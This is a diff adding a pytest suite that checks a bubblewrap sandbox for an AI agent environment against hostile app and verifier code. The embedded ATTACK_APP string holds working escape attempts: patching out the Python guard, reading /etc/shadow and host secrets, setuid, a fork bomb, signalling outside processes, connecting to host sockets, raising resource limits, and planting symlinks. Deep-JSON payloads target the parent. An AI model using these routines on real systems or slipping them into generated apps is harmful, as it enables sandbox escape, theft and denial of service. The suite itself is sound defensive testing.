@@ -1,0 +1,492 @@
+"""ttg/AWM-v0 under attack: model-written app and verifier code that means harm, run in the bwrap sandbox.
+
+Each attack is one route of a hostile app (or one verifier) that reports what it managed to do;
+the test asserts it was blocked, seen from outside the sandbox where it matters (files, processes,
+sockets, the environment). The comment by each names the mechanism that blocks it.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import socket
+import sqlite3
+import subprocess
+import sys
+import time
+import uuid
+import warnings
+
+import pytest
+
+from ttg_envs.envs.awm import AWMEnv, isolation
+from ttg_envs.envs.awm.policies import call_text
+from ttg_envs.envs.awm.runtime import SandboxError
+from ttg_envs.wrappers import branch
+
+ATTACK_APP = r'''
+import gc, json, os, resource, signal, socket, sys, time
+from fastapi import FastAPI
+from sqlalchemy import create_engine, text
+engine = create_engine("sqlite:///episode.db", connect_args={"check_same_thread": False})
+app = FastAPI()
+MEMORY = {"n": 0}
+
+def attempt(fn):
+    try:
+        return ["done", repr(fn())[:300]]
+    except BaseException as exc:
+        return ["blocked", f"{type(exc).__name__}: {exc}"[:300]]
+
+def unguard():
+    sandbox = sys.modules["ttg_envs.envs.awm.sandbox"]
+    sandbox._Guard.__call__ = lambda *a: None
+    for obj in gc.get_objects():
+        if isinstance(obj, sandbox._Guard):
+            obj.folder, obj.read_roots, obj.databases = "/", ("/",), set()
+    return True
+
+@app.post("/count", operation_id="bump")
+def bump():
+    with engine.begin() as c:
+        c.execute(text("UPDATE counter SET n = n + 1"))
+    with engine.connect() as c:
+        return {"n": c.execute(text("SELECT n FROM counter")).scalar()}
+
+@app.post("/memory", operation_id="bump_memory")
+def bump_memory():
+    MEMORY["n"] += 1
+    return MEMORY
+
+@app.get("/guard", operation_id="patch_guard")
+def patch_guard(secret: str, marker: str):
+    return {"unguard": attempt(unguard), "system": attempt(lambda: os.system("true")),
+            "read_secret": attempt(lambda: open(secret).read()), "shadow": attempt(lambda: open("/etc/shadow").read()),
+            "write_host": attempt(lambda: open(marker, "w").write("pwned")),
+            "write_system": attempt(lambda: open("/usr/ttg-pwned", "w").write("x")),
+            "write_package": attempt(lambda: open(os.path.join(os.path.dirname(sys.modules["ttg_envs"].__file__),
+                                                               "pwned.py"), "w").write("x")),
+            "setuid": attempt(lambda: os.setuid(0))}
+
+@app.get("/spawn", operation_id="fork_exec")
+def fork_exec(token: str):
+    import _posixsubprocess
+    args = [b"/bin/sleep", token.encode()]
+    pid = _posixsubprocess.fork_exec(args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1,
+                                     *os.pipe(), True, True, -1, None, None, None, -1, None, False)
+    return {"pid": pid}
+
+@app.get("/bomb", operation_id="fork_bomb")
+def fork_bomb():
+    unguard()
+    started, error = 0, None
+    for _ in range(200):
+        try:
+            if os.fork() == 0:
+                time.sleep(30)
+                os._exit(0)
+            started += 1
+        except OSError as exc:
+            error = f"{type(exc).__name__}: {exc}"
+            break
+    return {"started": started, "error": error}
+
+@app.get("/signal", operation_id="signal")
+def send_signal(pid: int):
+    unguard()
+    return {"pidfd": attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL)),
+            "kill": attempt(lambda: os.kill(pid, signal.SIGKILL)), "kill_all": attempt(lambda: os.kill(-1, 0))}
+
+@app.get("/unix", operation_id="connect")
+def connect(path: str, abstract: str, port: int):
+    unguard()
+    def unix(address):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.settimeout(2)
+        s.connect(address)
+        s.sendall(b"stolen")
+        return "connected"
+    def tcp():
+        return socket.create_connection(("127.0.0.1", port), timeout=2)
+    return {"path": attempt(lambda: unix(path)), "abstract": attempt(lambda: unix("\0" + abstract)),
+            "tcp": attempt(tcp), "dns": attempt(lambda: socket.getaddrinfo("example.com", 80))}
+
+@app.get("/sqlite", operation_id="raw_sqlite")
+def raw_sqlite(secret: str, created: str):
+    import _sqlite3
+    def read():
+        conn = _sqlite3.connect(":memory:")
+        conn.set_authorizer(None)
+        conn.execute(f"ATTACH DATABASE '{secret}' AS s")
+        return conn.execute("SELECT v FROM s.secret").fetchall()
+    def create():
+        conn = _sqlite3.connect(":memory:")
+        conn.set_authorizer(None)
+        conn.execute(f"ATTACH DATABASE '{created}' AS c")
+        conn.execute("CREATE TABLE c.t (x)")
+        conn.commit()
+        return "created"
+    return {"read": attempt(read), "create": attempt(create)}
+
+@app.get("/env", operation_id="environment")
+def environment():
+    out = {"environ": dict(os.environ)}
+    for path in ("/proc/self/environ", "/proc/1/environ", "/proc/2/environ"):
+        out[path] = attempt(lambda: open(path, "rb").read().decode("latin-1"))
+    return out
+
+@app.get("/fds", operation_id="fds")
+def fds():
+    unguard()
+    out = {"truncate_stdout": attempt(lambda: os.ftruncate(1, 0)),
+           "truncate_stderr": attempt(lambda: os.ftruncate(2, 0)),
+           "write": attempt(lambda: os.write(1, b"noise\n"))}
+    out["open"] = {fd: attempt(lambda fd=fd: os.readlink(f"/proc/self/fd/{fd}")) for fd in range(64)
+                   if attempt(lambda fd=fd: os.fstat(fd))[0] == "done"}
+    return out
+
+@app.get("/limits", operation_id="limits")
+def limits():
+    unguard()
+    out = {}
+    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE"):
+        limit = getattr(resource, name)
+        soft, hard = resource.getrlimit(limit)
+        out[name] = {"soft": soft, "hard": hard,
+                     "raise": attempt(lambda: resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))}
+    return out
+
+@app.get("/burn", operation_id="burn")
+def burn():
+    while True:
+        pass
+
+@app.get("/plant", operation_id="plant")
+def plant(kind: str, target: str = ""):
+    unguard()
+    folder = os.getcwd()
+    os.chdir("/tmp")
+    database = os.path.join(folder, "episode.db")
+    os.remove(database)
+    if kind == "symlink":
+        os.symlink(target, database)
+    elif kind == "relative":
+        os.symlink(os.path.relpath(target, folder), database)
+    elif kind == "dir":
+        os.mkdir(database)
+        open(os.path.join(database, "inside"), "w").write("x")
+    return {"planted": kind}
+'''
+
+VERIFY = ("def verify_task_completion(initial_db_path, final_db_path, final_answer=None):\n    import sqlite3\n"
+          "    rows = sqlite3.connect(final_db_path).execute('SELECT * FROM sqlite_master').fetchall()\n"
+          "    return {'result': 'complete', 'rows': repr(rows)}\n")
+DEEP_VERIFY = ("def verify_task_completion(initial_db_path, final_db_path, final_answer=None):\n    import gc\n"
+               "    from multiprocessing.connection import Connection\n"
+               "    conn = next(o for o in gc.get_objects() if isinstance(o, Connection))\n"
+               "    conn.send_bytes(b'[' * 200000 + b']' * 200000)\n    import time; time.sleep(5)\n")
+DEEP_APP = ("import gc\nfrom multiprocessing.connection import Connection\n"
+            "conn = next(o for o in gc.get_objects() if isinstance(o, Connection))\n"
+            "conn.send_bytes(b'{\"ok\": true, \"openapi\": ' + b'[' * 200000 + b']' * 200000 + b'}')\n"
+            "import time; time.sleep(30)\n")
+
+
+def _write_dataset(folder, scenarios):
+    rows = {name: [] for name in ("gen_scenario.jsonl", "gen_tasks.jsonl", "gen_db.jsonl", "gen_sample.jsonl",
+                                  "gen_envs.jsonl", "gen_verifier.pure_code.jsonl")}
+    for name, code, verifiers in scenarios:
+        rows["gen_scenario.jsonl"].append({"name": name, "description": "Hostile code."})
+        rows["gen_tasks.jsonl"].append({"scenario": name, "tasks": [f"task {i}" for i in range(len(verifiers))]})
+        rows["gen_db.jsonl"].append({"scenario": name, "db_path": "x", "db_schema": {"tables": [
+            {"name": "counter", "ddl": "CREATE TABLE counter (n INTEGER)", "indexes": []}]}})
+        rows["gen_sample.jsonl"].append({"scenario": name, "sample_data": {"tables": [
+            {"table_name": "counter", "insert_statements": ["INSERT INTO counter VALUES (0);"]}]}})
+        rows["gen_envs.jsonl"].append({"scenario": name, "db_path": "x", "full_code": code})
+        rows["gen_verifier.pure_code.jsonl"] += [{"scenario": name, "task_idx": i, "task": "", "verification": {"code": v}}
+                                                 for i, v in enumerate(verifiers)]
+    for name, lines in rows.items():
+        (folder / name).write_text("".join(json.dumps(r) + "\n" for r in lines))
+    return folder
+
+
+CANARY = f"ttg-canary-{uuid.uuid4().hex}"
+
+
+@pytest.fixture(scope="module")
+def dataset(tmp_path_factory):
+    return _write_dataset(tmp_path_factory.mktemp("attack"), [
+        ("attack_1", ATTACK_APP, [VERIFY, DEEP_VERIFY]),
+        ("broken_1", DEEP_APP, [VERIFY]),
+    ])
+
+
+@pytest.fixture(scope="module")
+def env(dataset):
+    os.environ["TTG_CANARY_SECRET"] = CANARY  # in the parent's environment before any sandbox starts
+    env = AWMEnv(path=dataset, tool_timeout=20, verifier_timeout=10)
+    yield env
+    env.close()
+    del os.environ["TTG_CANARY_SECRET"]
+
+
+def _call(env, name, **arguments):
+    obs = env.step(call_text(name, arguments))[0]
+    body = obs.removeprefix("<tool_response>\n").removesuffix("\n</tool_response>")
+    try:
+        return json.loads(body)
+    except ValueError:
+        return body
+
+
+def _fresh(env):
+    env.reset(options={"task_id": "attack_1/0"})
+
+
+def _secret_db(path):
+    conn = sqlite3.connect(path)
+    conn.execute("CREATE TABLE secret (v TEXT)")
+    conn.execute("INSERT INTO secret VALUES ('TOPSECRET')")
+    conn.commit()
+    conn.close()
+    os.chmod(path, 0o644)
+    return path
+
+
+def test_patching_the_guard_reaches_nothing_outside(env, tmp_path):
+    # Blocked by the mount namespace (host paths absent, system read-only) and uid 65534 (no setuid).
+    _fresh(env)
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOPSECRET")
+    marker = tmp_path / "marker"
+    out = _call(env, "patch_guard", secret=str(secret), marker=str(marker))
+    assert out["unguard"][0] == "done"  # the Python guard is off...
+    for key in ("read_secret", "shadow", "write_host", "write_system", "write_package", "setuid"):
+        assert out[key][0] == "blocked", (key, out[key])  # ...and still nothing outside is reachable
+    assert not marker.exists() and "TOPSECRET" not in json.dumps(out)
+
+
+def _processes_with(token: str) -> list[int]:
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as f:
+                if token.encode() in f.read():
+                    found.append(int(pid))
+        except OSError:
+            pass
+    return found
+
+
+def test_a_forked_grandchild_does_not_outlive_its_app(env):
+    # Blocked by the fork server's kill(-1) in the sandbox's PID namespace when the app stops.
+    _fresh(env)
+    token = f"{time.time() % 1000:.6f}7"  # a unique sleep duration to find the process by
+    out = _call(env, "fork_exec", token=token)
+    assert isinstance(out, dict) and "pid" in out  # fork_exec itself works (the audit hook does not see it)
+    assert _processes_with(token), "the grandchild should run during the episode"
+    for pid in _processes_with(token):
+        assert os.stat(f"/proc/{pid}").st_uid == isolation.SANDBOX_UID
+    _fresh(env)
+    deadline = time.time() + 5
+    while _processes_with(token) and time.time() < deadline:
+        time.sleep(0.05)
+    assert not _processes_with(token)
+
+
+def test_process_count_is_capped(env):
+    # Blocked by RLIMIT_NPROC (hard) for uid 65534.
+    _fresh(env)
+    out = _call(env, "fork_bomb")
+    assert out["started"] < 64 and "Resource temporarily unavailable" in out["error"]
+    _fresh(env)
+
+
+def test_processes_outside_cannot_be_signalled(env):
+    # Blocked by the PID namespace (the pid names nothing, or a sandbox process) and the uid.
+    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
+    try:
+        _fresh(env)
+        out = _call(env, "signal", pid=victim.pid)
+        assert out["pidfd"][0] == "blocked" and out["kill"][0] == "blocked", out
+        time.sleep(0.2)
+        assert victim.poll() is None
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+def test_no_socket_reaches_the_host(env, tmp_path):
+    # Blocked by the network namespace (TCP, DNS, abstract AF_UNIX) and the mount namespace (path AF_UNIX).
+    os.chmod(tmp_path, 0o777)
+    path = str(tmp_path / "host.sock")
+    abstract = f"ttg-attack-{uuid.uuid4().hex}"
+    listeners = []
+    for address in (path, "\0" + abstract):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.bind(address)
+        s.listen()
+        s.settimeout(0.2)
+        listeners.append(s)
+    os.chmod(path, 0o777)
+    tcp = socket.create_server(("127.0.0.1", 0))
+    tcp.settimeout(0.2)
+    try:
+        _fresh(env)
+        out = _call(env, "connect", path=path, abstract=abstract, port=tcp.getsockname()[1])
+        for key in ("path", "abstract", "tcp", "dns"):
+            assert out[key][0] == "blocked", (key, out[key])
+        for s in [*listeners, tcp]:
+            with pytest.raises(TimeoutError):
+                s.accept()
+    finally:
+        for s in [*listeners, tcp]:
+            s.close()
+
+
+def test_raw_sqlite_attach_opens_nothing_on_the_host(env, tmp_path):
+    # Blocked by the mount namespace: the host path does not exist in the sandbox.
+    _fresh(env)
+    secret = _secret_db(tmp_path / "secret.db")
+    created = tmp_path / "created.db"
+    out = _call(env, "raw_sqlite", secret=str(secret), created=str(created))
+    assert out["read"][0] == "blocked" and "TOPSECRET" not in json.dumps(out)
+    assert not created.exists()
+
+
+def test_the_parents_environment_does_not_reach_the_app(env):
+    # Blocked by the allow-listed environment (Popen env= and bwrap --clearenv).
+    _fresh(env)
+    out = _call(env, "environment")
+    assert CANARY not in json.dumps(out)
+    # Beyond the allow-list: PWD (bwrap --chdir) and what imports in the sandbox set themselves.
+    assert set(out["environ"]) <= set(isolation.ENV_ALLOWLIST) | {"HOME", "PWD", "PYGAME_HIDE_SUPPORT_PROMPT"}
+
+
+def test_no_descriptor_of_the_parent_crosses(dataset, tmp_path):
+    # Blocked by stdio on /dev/null and a pipe, and the fork server closing every other descriptor.
+    log = tmp_path / "log.txt"
+    log.write_text("KEEP\n")
+    saved = os.dup(1)
+    fd = os.open(log, os.O_WRONLY | os.O_APPEND)
+    os.dup2(fd, 1)
+    try:
+        with AWMEnv(path=dataset, tool_timeout=20) as fresh:
+            fresh.reset(options={"task_id": "attack_1/0"})
+            out = _call(fresh, "fds")
+    finally:
+        os.dup2(saved, 1)
+        os.close(saved)
+        os.close(fd)
+    assert log.read_text() == "KEEP\n"
+    assert out["truncate_stdout"][0] == "blocked" and out["truncate_stderr"][0] == "blocked"
+    kinds = {int(k): v[1] for k, v in out["open"].items()}
+    assert kinds[0] == "'/dev/null'" and kinds[1].startswith("'pipe:") and kinds[2] == kinds[1]
+    # Beyond stdio only the app's own sockets (its pipe to the parent, asyncio's) and its epoll.
+    assert all(v.startswith(("'socket:", "'anon_inode:")) for k, v in kinds.items() if k > 2), kinds
+
+
+def test_resource_limits_are_hard(env):
+    # Blocked by soft = hard limits set before app code runs, and no CAP_SYS_RESOURCE.
+    _fresh(env)
+    out = _call(env, "limits")
+    for name, row in out.items():
+        assert row["soft"] == row["hard"] != -1, (name, row)
+        assert row["raise"][0] == "blocked", (name, row)
+
+
+def test_cpu_burn_is_stopped_by_the_cpu_limit(dataset):
+    # Blocked by RLIMIT_CPU: the app is killed long before the 60 s tool time limit.
+    with AWMEnv(path=dataset, tool_timeout=60, limits={"cpu": 2}) as env:
+        env.reset(options={"task_id": "attack_1/0"})
+        start = time.monotonic()
+        obs = _call(env, "burn")
+        assert "exited or broke the connection" in obs and time.monotonic() - start < 30
+        assert _call(env, "bump") == {"n": 1}  # a new app process over the same database
+
+
+def _sha(path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+@pytest.mark.parametrize("kind", ["symlink", "relative"])
+def test_a_planted_symlink_is_never_followed(env, tmp_path, kind):
+    # Blocked by O_NOFOLLOW + fstat through the folder's descriptor; the reset removes the link.
+    target = _secret_db(tmp_path / "target.db")
+    before = _sha(target)
+    _fresh(env)
+    assert _call(env, "bump") == {"n": 1}
+    assert _call(env, "plant", kind=kind, target=str(target)) == {"planted": kind}
+    env.step(call_text("bump", {}))
+    *_, info = env.step("done")
+    assert info["success"] is False and "unusable" in info["verifier_result"]["error"]
+    assert "TOPSECRET" not in json.dumps(info)
+    _fresh(env)
+    assert _call(env, "bump") == {"n": 1}
+    assert _sha(target) == before and not (env._workspace.database).is_symlink()
+
+
+@pytest.mark.parametrize("kind", ["deleted", "dir"])
+def test_a_deleted_or_replaced_database_is_an_error_not_a_crash(env, kind):
+    # Handled by the fstat check (a directory is not a database) and a reset that clears the folder.
+    _fresh(env)
+    assert _call(env, "plant", kind=kind) == {"planted": kind}
+    obs, *_ = env.step(call_text("bump", {}))
+    assert isinstance(obs, str)
+    branch(env).close()  # a branch of a broken episode does not raise either
+    *_, info = env.step("done")
+    if kind == "dir":
+        assert info["success"] is False and "not a regular file" in info["verifier_result"]["error"]
+    for _ in range(2):
+        _fresh(env)
+        assert _call(env, "bump") == {"n": 1}
+
+
+def test_deep_json_from_a_verifier_fails_the_task(env):
+    env.reset(options={"task_id": "attack_1/1"})
+    *_, info = env.step("done")
+    assert info["success"] is False and "malformed reply" in info["verifier_result"]["error"]
+
+
+def test_a_failed_reset_leaves_the_env_as_before(env):
+    _fresh(env)
+    assert _call(env, "bump") == {"n": 1}
+    before = (env.task, env.task_index, [dict(m) for m in env.messages], list(env.actions))
+    with pytest.raises(SandboxError, match="malformed reply"):
+        env.reset(options={"task_id": "broken_1/0"})  # its app sends deep JSON at load
+    assert (env.task, env.task_index, env.messages, env.actions) == before
+    assert _call(env, "bump") == {"n": 2}  # the old episode goes on, database intact
+
+
+def test_branches_of_an_app_with_memory_replay(dataset):
+    # Apps loaded from files are not known to keep all state in the database: branches replay.
+    with AWMEnv(path=dataset) as env:
+        env.reset(options={"task_id": "attack_1/0"})
+        assert _call(env, "bump_memory") == {"n": 1}
+        child = branch(env)
+        assert _call(child, "bump_memory") == _call(env, "bump_memory") == {"n": 2}
+        child.close()
+        with pytest.raises(NotImplementedError):
+            branch(env, "snapshot")
+    with AWMEnv(path=dataset, state_in_database=True) as env:  # the old behaviour: a snapshot forgets memory
+        env.reset(options={"task_id": "attack_1/0"})
+        _call(env, "bump_memory")
+        child = branch(env)
+        assert _call(child, "bump_memory") == {"n": 1} != _call(env, "bump_memory")
+        child.close()
+
+
+def test_missing_bwrap_refuses_with_one_clear_error(dataset, monkeypatch):
+    isolation._probe.cache_clear()
+    monkeypatch.setenv("PATH", "/nonexistent")
+    try:
+        with pytest.raises(isolation.SandboxUnavailable, match="apt-get install bubblewrap.*sandbox='python'"):
+            AWMEnv(path=dataset)
+    finally:
+        isolation._probe.cache_clear()
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        with AWMEnv(path=dataset, sandbox="python") as env:
+            env.reset(options={"task_id": "attack_1/0"})
+            assert _call(env, "bump") == {"n": 1}  # the opt-in mode still runs apps
+    assert any("in-process audit hook" in str(w.message) for w in caught)
